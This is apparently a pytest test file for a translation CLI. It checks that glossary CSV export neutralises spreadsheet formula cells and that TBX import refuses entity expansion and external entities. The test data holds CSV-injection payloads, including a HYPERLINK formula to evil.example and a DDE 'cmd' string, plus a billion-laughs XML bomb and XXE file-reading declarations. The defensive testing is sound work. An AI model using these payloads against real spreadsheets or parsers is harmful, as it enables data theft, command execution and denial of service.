"""CSV the product writes has no cell a spreadsheet evaluates; TBX is parsed
with entity expansion and external entities off."""

import csv

import pytest
from typer.testing import CliRunner

from translator.io import csvsafe
from translator.cli.main import app
from translator.terms.glossary import Term, read_csv, write_csv

runner = CliRunner()

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "'=already marked", "''+twice"]


def tbx(terms: list[tuple[str, str]]) -> str:
    entries = "".join(
        f'<termEntry id="e{i}"><langSet xml:lang="en"><tig><term>{s}</term></tig></langSet>'
        f'<langSet xml:lang="es"><tig><term>{t}</term></tig></langSet></termEntry>'
        for i, (s, t) in enumerate(terms))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<martif type="TBX-Basic" xml:lang="en"><text><body>'
            f"{entries}</body></text></martif>\n")


def _esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace("\t", "&#9;")


def test_glossary_import_neutralises_formula_cells(tmp_path):
    pairs = [(_esc(h), _esc(h[::-1] if h[0] != "'" else h)) for h in HOSTILE] + [("model", "modelo")]
    (tmp_path / "in.tbx").write_text(tbx(pairs), encoding="utf-8")
    out = tmp_path / "g.en-es.csv"
    r = runner.invoke(app, ["glossary", "import", str(tmp_path / "in.tbx"), str(out)])
    assert r.exit_code == 0, r.output
    with open(out, encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
    # reading our own CSV gives every term back as written
    back = read_csv(out)
    assert [t.source for t in back.terms] == [h.strip() for h in HOSTILE] + ["model"]  # terms are stripped


def test_round_trip_and_plain_cells_untouched(tmp_path):
    terms = [Term(h, "x") for h in HOSTILE] + [Term("foundation model", "modelo fundacional", note="a-b"),
                                                Term("e-mail", "correo", forbidden=("-mail",))]
    write_csv(terms, tmp_path / "g.en-es.csv")
    text = (tmp_path / "g.en-es.csv").read_text(encoding="utf-8")
    assert "foundation model,modelo fundacional,a-b" in text and "'-mail" in text
    assert [(t.source, t.forbidden) for t in read_csv(tmp_path / "g.en-es.csv").terms] == \
        [(t.source.strip(), t.forbidden) for t in terms]
    for h in HOSTILE + ["plain", "", "a=b"]:
        assert csvsafe.restore(csvsafe.neutralise(h)) == h


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE martif [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<martif type="TBX-Basic" xml:lang="en"><text><body><termEntry id="e1">
<langSet xml:lang="en"><tig><term>&lol9;</term></tig></langSet>
<langSet xml:lang="es"><tig><term>risa</term></tig></langSet></termEntry></body></text></martif>
"""


def test_billion_laughs_is_refused(tmp_path):
    (tmp_path / "bomb.tbx").write_text(BILLION_LAUGHS, encoding="utf-8")
    out = tmp_path / "g.en-es.csv"
    r = runner.invoke(app, ["glossary", "import", str(tmp_path / "bomb.tbx"), str(out)])
    assert r.exit_code != 0
    assert r.output.count("Error:") == 1 and "entit" in r.output and "Traceback" not in r.output
    assert not out.exists()


@pytest.mark.parametrize("decl", ['<!ENTITY secret SYSTEM "file://{path}">', '<!ENTITY % ext SYSTEM "file://{path}"> %ext;'])
def test_external_entity_is_not_read(tmp_path, decl):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE", encoding="utf-8")
    body = tbx([("&secret;" if "%" not in decl else "model", "modelo")])
    body = body.replace("<martif", f"<!DOCTYPE martif [ {decl.format(path=secret)} ]>\n<martif", 1)
    (tmp_path / "xxe.tbx").write_text(body, encoding="utf-8")
    out = tmp_path / "g.en-es.csv"
    r = runner.invoke(app, ["glossary", "import", str(tmp_path / "xxe.tbx"), str(out)])
    assert r.exit_code != 0 and r.output.count("Error:") == 1, r.output
    assert "TOP-SECRET-VALUE" not in r.output
    assert not out.exists() or "TOP-SECRET-VALUE" not in out.read_text(encoding="utf-8")


def test_no_entity_expansion_at_all(tmp_path):
    """Even a small internal entity is not expanded (expat's amplification
    limit only stops the big bombs)."""
    body = tbx([("&co; model", "modelo de &co;")]).replace(
        "<martif", '<!DOCTYPE martif [ <!ENTITY co "ACME"> ]>\n<martif', 1)
    (tmp_path / "ent.tbx").write_text(body, encoding="utf-8")
    out = tmp_path / "g.en-es.csv"
    r = runner.invoke(app, ["glossary", "import", str(tmp_path / "ent.tbx"), str(out)])
    assert r.exit_code != 0 and r.output.count("Error:") == 1 and "entit" in r.output, r.output
    assert not out.exists()
